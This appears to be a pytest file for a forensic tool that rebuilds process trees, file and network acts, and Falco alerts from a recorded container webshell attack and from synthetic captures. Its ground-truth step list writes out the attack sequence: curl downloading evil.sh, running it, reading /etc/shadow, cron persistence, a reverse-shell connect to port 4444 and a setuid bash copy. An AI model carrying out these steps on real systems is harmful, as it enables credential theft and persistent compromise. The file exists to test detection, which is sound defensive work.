"""What a scene holds: processes, acts and alerts of a recorded attack and of made-up stories."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.reference import SHARED, needs_reference
from tiercel import scan
from tiercel.capture.scenario import Scenario
from tiercel.reconstruct.scene import Scene
from tiercel.reconstruct.schema import ACTS, PROCESSES, documentation
from tiercel.replay import Replay
from tiercel.store.ingest import ingest
from tiercel.store.manifest import Source
from tiercel.store.store import Store

WEBSHELL = SHARED / "captures/modern/a-seed-webshell/a-seed-webshell.scap"
UPSTREAM = [SHARED / "rules/upstream" / f"falco{part}_rules.yaml" for part in ("", "-incubating", "-sandbox")]
CONTAINER = "3f4e9a1b7c2d"

Row = dict[str, Any]


@pytest.fixture(scope="module")
def webshell() -> Scene:
    return Scene.of(Replay(WEBSHELL), alerts=scan(WEBSHELL, UPSTREAM))


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    made = Store.create(tmp_path_factory.mktemp("case") / "store")
    ingest(made, Replay(WEBSHELL), Source("e1", WEBSHELL.name))
    return made


def acts(scene: Scene, **wanted: object) -> list[Row]:
    """Return the acts with these values."""
    return [act for act in scene.acts.to_pylist() if all(act[name] == value for name, value in wanted.items())]


def lineage(scene: Scene, process: int | None) -> list[str]:
    """Return the names of a process and of those above it."""
    rows = scene.processes.to_pylist()
    names = []
    while process is not None:
        names.append(rows[process]["name"])
        process = rows[process]["parent"]
    return names


STEPS = [  # ground-truth.yaml, step by step: (kind, what, part of the detail)
    ("exec", "/usr/bin/bash", "bash"),
    ("exec", "/usr/bin/curl", "http://127.0.0.1:8080/evil.sh -o /tmp/evil.sh"),
    ("create", "/tmp/evil.sh", "created"),
    ("write", "/tmp/evil.sh", ""),
    ("exec", "/usr/bin/chmod", "chmod +x /tmp/evil.sh"),
    ("chmod", "/tmp/evil.sh", "+x 0755"),
    ("exec", "/usr/bin/bash", "evil.sh /tmp/evil.sh"),
    ("create", "/tmp/.s", "created"),
    ("open_read", "/etc/shadow", ""),
    ("write", "/tmp/.s", ""),
    ("create", "/etc/cron.d/x", "created"),
    ("write", "/etc/cron.d/x", ""),
    ("connect", "->127.0.0.1:8080", ""),
    ("redirect", "->127.0.0.1:8080", "stdout"),
    ("connect", "127.0.0.1:4444", "ECONNREFUSED"),
    ("exec", "/usr/bin/cp", "cp /bin/bash /tmp/.b"),
    ("create", "/tmp/.b", "created"),
    ("write", "/tmp/.b", ""),
    ("chmod", "/tmp/.b", "u+s 04755"),
    ("exec", "/tmp/.b", "-c true"),
    ("delete", "/tmp/evil.sh", ""),
    ("create", "/root/.bash_history", "created"),
    ("exec", "/usr/bin/ls", "ls -la /tmp"),
]


@needs_reference
def test_the_attack_is_told_in_order(webshell: Scene) -> None:
    shell = acts(webshell, kind="exec", object="/usr/bin/bash", container=CONTAINER)[0]
    told = iter([act for act in acts(webshell, container=CONTAINER) if act["num"] >= shell["num"]])
    for kind, what, detail in STEPS:
        assert any(
            act["kind"] == kind and (act["object"] or "").endswith(what) and detail in (act["detail"] or "")
            for act in told
        ), f"{kind} {what} is missing or out of order"


@needs_reference
def test_the_shell_was_put_into_the_container_with_a_terminal(webshell: Scene) -> None:
    (shell,) = [act for act in acts(webshell, kind="exec", container=CONTAINER) if act["detail"] == "bash"]
    process = webshell.processes.to_pylist()[shell["process"]]
    assert process["tty"] != 0
    assert lineage(webshell, shell["process"])[:4] == ["bash", "runc", "sh", "script"]
    runc = webshell.processes.to_pylist()[process["parent"]]
    assert "exec -t" in runc["cmdline"]


@needs_reference
def test_what_a_script_is_shows_beside_its_interpreter(webshell: Scene) -> None:
    (run,) = [act for act in acts(webshell, kind="exec") if act["name"] == "evil.sh"]
    assert (run["object"], run["target"]) == ("/usr/bin/bash", "/tmp/evil.sh")


@needs_reference
def test_a_process_keeps_all_it_executed(webshell: Scene) -> None:
    (chmod,) = acts(webshell, kind="chmod", object="/tmp/evil.sh")
    process = webshell.processes.to_pylist()[chmod["process"]]
    assert [run["cmdline"] for run in process["execs"]] == ["chmod +x /tmp/evil.sh"]
    assert process["exit"] == 0
    assert process["start"] < process["execs"][0]["ts"] < process["end"]
    assert process["from_start"] is False


@needs_reference
def test_bytes_are_added_up_per_process_and_file(webshell: Scene) -> None:
    (copied,) = acts(webshell, kind="write", object="/tmp/.b")
    assert (copied["count"], copied["bytes"]) == (10, 1265648)
    (read,) = acts(webshell, kind="read", object="/etc/shadow")
    assert read["bytes"] == 221


@needs_reference
def test_connections_have_two_ends(webshell: Scene) -> None:
    (refused,) = acts(webshell, kind="connect", rport=4444)
    assert (refused["raddr"], refused["laddr"], refused["ok"]) == ("127.0.0.1", None, False)
    (opened,) = [act for act in acts(webshell, kind="connect", rport=8080) if act["name"] == "evil.sh"]
    (accepted,) = acts(webshell, kind="accept", rport=opened["lport"])
    assert (opened["proto"], accepted["name"], accepted["lport"]) == ("tcp", "nginx", 8080)


@needs_reference
def test_alerts_know_their_act_and_process(webshell: Scene) -> None:
    everything = webshell.acts.to_pylist()
    linked = [(alert, everything[alert["act"]]) for alert in webshell.alerts.to_pylist() if alert["act"] is not None]
    assert len(linked) == webshell.alerts.num_rows
    assert all(alert["process"] == act["process"] for alert, act in linked)
    assert {
        ("Read sensitive file untrusted", "open_read", "/etc/shadow"),
        ("Set Setuid or Setgid bit", "chmod", "/tmp/.b"),
        ("Terminal shell in container", "exec", "/usr/bin/bash"),
        ("Drop and execute new binary in container", "exec", "/tmp/.b"),
        ("Delete or rename shell history", "create", "/root/.bash_history"),
    } <= {(alert["rule"], act["kind"], act["object"]) for alert, act in linked}


@needs_reference
def test_numbers_are_rows(webshell: Scene) -> None:
    assert webshell.acts["act"].to_pylist() == list(range(webshell.acts.num_rows))
    assert webshell.processes["process"].to_pylist() == list(range(webshell.processes.num_rows))
    times = webshell.acts["ts"].to_pylist()
    assert times == sorted(times)


def test_every_column_says_what_it_holds() -> None:
    for schema in (PROCESSES, ACTS):
        assert all(documentation(schema).values())


def test_tables_must_fit() -> None:
    with pytest.raises(ValueError, match="acts"):
        Scene(acts=PROCESSES.empty_table())


def test_threads_are_one_process(tmp_path: Path) -> None:
    story = Scenario()
    worker = story.process("/usr/bin/worker")
    thread = worker.thread()
    thread.open("/tmp/out", "O_WRONLY|O_CREAT")
    thread.exit()
    worker.exit(3)
    story.write(tmp_path / "story.scap")
    scene = Scene.of(Replay(tmp_path / "story.scap"))
    (opened,) = [act for act in scene.acts.to_pylist() if act["object"] == "/tmp/out"]
    process = scene.processes.to_pylist()[opened["process"]]
    assert (process["pid"], process["exit"] >> 8, process["from_start"]) == (worker.tid, 3, True)
    assert [act["detail"] for act in acts(scene, kind="exit")] == ["exit code 3"]


def test_a_process_id_used_again_is_another_process(tmp_path: Path) -> None:
    story = Scenario()
    first = story.init.spawn("/usr/bin/one")
    first.exit()
    story.wait(10)
    story._last_tid = first.tid - 1
    second = story.init.spawn("/usr/bin/two")
    second.exit()
    assert first.tid == second.tid
    story.write(tmp_path / "story.scap")
    scene = Scene.of(Replay(tmp_path / "story.scap"))
    lives = [process for process in scene.processes.to_pylist() if process["pid"] == first.tid]
    assert [life["exepath"] for life in lives] == ["/usr/bin/one", "/usr/bin/two"]


def test_two_captures_of_one_host_are_one_story(tmp_path: Path) -> None:
    for name, start in (("a", 1_700_000_000), ("b", 1_700_000_100)):
        story = Scenario("web", start=start * 1_000_000_000)
        daemon = story.process("/usr/sbin/daemon", tid=77)
        daemon.open(f"/tmp/{name}", "O_WRONLY|O_CREAT")
        story.write(tmp_path / f"{name}.scap")
    scene = Scene.of(batch for name in "ab" for batch in Replay(tmp_path / f"{name}.scap"))
    opened = [act for act in scene.acts.to_pylist() if act["pid"] == 77]
    assert len({act["process"] for act in opened}) == 1
    assert len({act["object"] for act in opened}) == 2


def test_two_hosts_have_processes_of_their_own(tmp_path: Path) -> None:
    for name in ("red", "blue"):
        story = Scenario(name)
        story.process("/usr/sbin/daemon", tid=77).open("/tmp/x", "O_WRONLY|O_CREAT")
        story.write(tmp_path / f"{name}.scap")
    scene = Scene.of(batch for name in ("red", "blue") for batch in Replay(tmp_path / f"{name}.scap"))
    assert {(act["host"], act["process"]) for act in scene.acts.to_pylist() if act["pid"] == 77} == {
        (process["host"], process["process"]) for process in scene.processes.to_pylist() if process["pid"] == 77
    }
    assert len({process["host"] for process in scene.processes.to_pylist()}) == 2


@needs_reference
def test_a_store_gives_the_same_scene(webshell: Scene, store: Store) -> None:
    loaded = Scene.load(store)
    left_out = {"evidence"}
    for name in ("acts", "processes"):
        before, after = getattr(webshell, name), getattr(loaded, name)
        assert before.drop_columns(left_out).to_pylist() == after.drop_columns(left_out).to_pylist()
    assert set(loaded.acts["evidence"].to_pylist()) == {"e1"}


@needs_reference
@pytest.mark.parametrize("size", [500, 4096])
def test_where_batches_end_makes_no_difference(size: int) -> None:
    whole, parts = Scene.of(Replay(WEBSHELL)), Scene.of(Replay(WEBSHELL, size=size))
    assert parts.acts.to_pylist() == whole.acts.to_pylist()
    assert parts.processes.to_pylist() == whole.processes.to_pylist()


@needs_reference
def test_a_part_of_a_store_has_only_what_concerns_it(webshell: Scene, store: Store) -> None:
    (shell,) = [act for act in acts(webshell, kind="exec", container=CONTAINER) if act["detail"] == "bash"]
    scene = Scene.load(store, container="3f4e", since=shell["ts"])
    assert set(scene.acts["container"].to_pylist()) == {CONTAINER}
    assert min(scene.acts["ts"].to_pylist()) == shell["ts"]
    (refused,) = acts(scene, kind="connect", rport=4444)
    assert lineage(scene, refused["process"])[:4] == ["evil.sh", "evil.sh", "bash", "runc"]
    assert scene.processes.num_rows < webshell.processes.num_rows
    assert {process["container"] for process in scene.processes.to_pylist()} == {"", CONTAINER}
